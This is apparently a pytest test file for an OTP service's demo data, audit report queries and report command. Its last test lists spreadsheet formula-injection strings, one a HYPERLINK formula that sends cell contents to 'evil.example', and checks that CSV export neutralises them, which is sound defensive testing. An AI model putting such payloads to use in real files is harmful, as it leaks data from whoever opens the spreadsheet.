"""Demo data, the report queries and the `report` command, on SQLite and (in CI) PostgreSQL."""

import zipfile
from datetime import UTC, datetime

import pytest

from otp_service import report_queries
from otp_service.demo_data import generate
from otp_service.models import AuditLog, Report
from otp_service.report_runner import NOTEBOOKS_DIR
from tests.serving import run_cli

START, END = datetime(2026, 2, 1), datetime(2026, 3, 1)
DEMO_END = datetime(2026, 3, 1, tzinfo=UTC)


def totals(database):
    with database.connection_context():
        return report_queries.audit_totals(START, END)


def test_demo_data_is_reproducible_for_a_seed(service, database, tmp_path):
    done = generate(service, devices=12, days=10, seed=3, end=DEMO_END)
    first = totals(database)
    assert done["register"] == 12 and first["verifications"] > 100 and first["lockouts"] >= 1
    url = f"sqlite:///{tmp_path}/second.db"
    assert (
        run_cli(
            "demo-data", "--devices", "12", "--days", "10", "--seed", "3", "--database-url", url, cwd=tmp_path
        ).returncode
        == 0
    )
    from otp_service.database import open_database

    other = open_database(url, 1)
    assert totals(other) == first
    other.close_all()
    again = run_cli("demo-data", "--devices", "12", "--days", "10", "--seed", "3", "--database-url", url, cwd=tmp_path)
    assert again.returncode == 1 and "already holds demo devices" in again.stderr


def test_report_queries_agree_with_the_rows(service, database):
    generate(service, devices=10, days=14, seed=5, end=DEMO_END)
    with database.connection_context():
        rows = list(AuditLog.select().where((AuditLog.timestamp >= START) & (AuditLog.timestamp < END)))
        t = report_queries.audit_totals(START, END)
        verifications = [r for r in rows if r.action == "OTP_VERIFICATION"]
        assert t["verifications"] == len(verifications)
        assert t["verifications_succeeded"] == sum(r.success for r in verifications)
        assert t["lockouts"] == sum(r.action == "DEVICE_LOCKED" for r in rows)
        by_reason = report_queries.failures_by_reason(START, END)
        assert dict(zip(by_reason["reason"], by_reason["failures"], strict=True)) == {
            reason: sum(1 for r in verifications if r.reason == reason)
            for reason in {r.reason for r in verifications if not r.success}
        }
        daily = report_queries.daily_activity(START, END)
        assert len(set(daily["day"])) == 28 and daily["succeeded"].sum() + daily["failed"].sum() == len(rows)
        episodes = report_queries.brute_force_episodes(START, END, 600, 5)
        assert len(episodes) >= 1 and (episodes["failures"] >= 5).all()
        assert report_queries.usage_distribution()["devices"].sum() == 10
        assert report_queries.parameter_mix()["devices"].sum() == 10
        assert report_queries.drift_distribution()["devices"].sum() == 10
        top = report_queries.top_failing("ip_address", START, END, 3)
        assert top["ip_address"].iloc[0] == "203.0.113.99"  # the simulated attacker
        by_client = report_queries.actions_by_client(START, END)
        assert by_client["audit rows"].sum() == len(rows)
        for client, action, count, ok in by_client.itertuples(index=False):
            mine = [r for r in rows if r.action == action and (r.actor or report_queries.NO_CLIENT) == client]
            assert (count, ok) == (len(mine), sum(r.success for r in mine))
        admin = report_queries.admin_actions(START, END)
        deactivations = [r for r in rows if r.action == "DEVICE_DEACTIVATED"]
        assert list(admin["device_id"]) == [r.device_id for r in deactivations] and set(admin["client"]) <= {
            "ops-console"
        }


PASSWORD = "report-pass-0123456789"


def as_a_user_would_write_it(db_url: str) -> str:
    """SQLite: a path relative to the working directory. PostgreSQL: with a password in the URL (the test
    server trusts local connections, so it is ignored there — but it must not be written anywhere)."""
    if db_url.startswith("sqlite"):
        return "sqlite:///test.db"
    return db_url.replace("://postgres@", f"://postgres:{PASSWORD}@")


@pytest.mark.slow
def test_report_command_writes_html_csv_png_and_stores_the_report(service, database, db_url, tmp_path):
    generate(service, devices=10, days=14, seed=5, end=DEMO_END)
    url = as_a_user_would_write_it(db_url)
    result = run_cli(
        "report",
        "audit",
        "--start",
        "2026-02-01",
        "--end",
        "2026-02-28",
        "--database-url",
        url,
        "--output-dir",
        "out",
        cwd=tmp_path,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert "IPKernelApp" not in result.stderr and "WARNING" not in result.stderr  # the kernel talks over IPC
    assert not list((NOTEBOOKS_DIR).glob("*.db")), "a relative SQLite path must not name a file beside the notebooks"
    out = tmp_path / "out"
    for path in out.rglob("*"):  # neither the URL's password nor the URL itself in anything the report wrote
        if path.is_file():
            content = path.read_bytes()
            assert PASSWORD.encode() not in content and url.encode() not in content, path
    html = (out / "audit-2026-02-01_2026-02-28.html").read_text()
    assert (out / "audit-2026-02-01_2026-02-28.ipynb").exists()
    data = out / "audit-2026-02-01_2026-02-28"
    assert {"summary.csv", "failures_by_reason.csv", "brute_force_episodes.csv"} <= {p.name for p in data.glob("*.csv")}
    assert (data / "daily_activity.png").stat().st_size > 1000
    assert "data:image/png;base64" in html and "report_queries.prepare" not in html  # figures inline, code hidden
    assert "<script" not in html and "cdnjs" not in html  # self-contained: opens offline
    assert "<title>OTP service audit report, 2026-02-01 to 2026-02-28</title>" in html
    expected = totals(database)
    assert f"<td>{expected['verifications']}</td>" in html
    with database.connection_context():
        [stored] = list(Report.select())
    assert (stored.kind, stored.period_start, stored.period_end) == ("audit", START, END)
    assert stored.html == html
    with zipfile.ZipFile(__import__("io").BytesIO(bytes(stored.data_zip))) as archive:
        assert "summary.csv" in archive.namelist()


@pytest.mark.slow
def test_usage_report_command(service, db_url, tmp_path):
    generate(service, devices=8, days=10, seed=2, end=DEMO_END)
    result = run_cli(
        "report",
        "usage",
        "--start",
        "2026-02-15",
        "--end",
        "2026-02-28",
        "--database-url",
        db_url,
        "--output-dir",
        str(tmp_path),
        "--no-store",
        cwd=tmp_path,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "usage-2026-02-15_2026-02-28" / "verifications_per_day.png").exists()


@pytest.mark.parametrize(
    "args,message",
    [
        (["--start", "2026-02-30", "--end", "2026-03-01"], "--start must be a date"),
        (["--start", "yesterday", "--end", "2026-03-01"], "--start must be a date"),
        (["--start", "2026-03-01", "--end", "2026-02-01"], "before the start date"),
        (
            ["--start", "2026-02-01", "--end", "2026-02-02", "--database-url", "postgresql://postgres@127.0.0.1:1/x"],
            "cannot reach the database",
        ),
    ],
)
def test_report_command_refuses_bad_input_clearly(tmp_path, args, message):
    result = run_cli("report", "audit", *args, cwd=tmp_path, DB_TIMEOUT="2", DATABASE_URL=f"sqlite:///{tmp_path}/r.db")
    assert result.returncode != 0 and message in result.stderr and "Traceback" not in result.stderr


def test_report_csvs_neutralise_spreadsheet_formulas(tmp_path):
    """A user id chosen by an API caller must not run as a formula in the compliance team's spreadsheet."""
    import csv

    import pandas as pd

    from otp_service.report_queries import ReportOutput

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    frame = pd.DataFrame({"user_id": [*hostile, "alice", None], "failures": [1, 2, 3, 4, 5, 6, 7, 8]})
    returned = ReportOutput(tmp_path).table("top_users", frame)
    assert returned["user_id"].tolist()[:6] == hostile  # the page shows what happened, as it happened
    with open(tmp_path / "top_users.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["user_id"] for r in rows] == ["'" + h for h in hostile] + ["alice", ""]
    assert [r["failures"] for r in rows] == [str(n) for n in range(1, 9)]
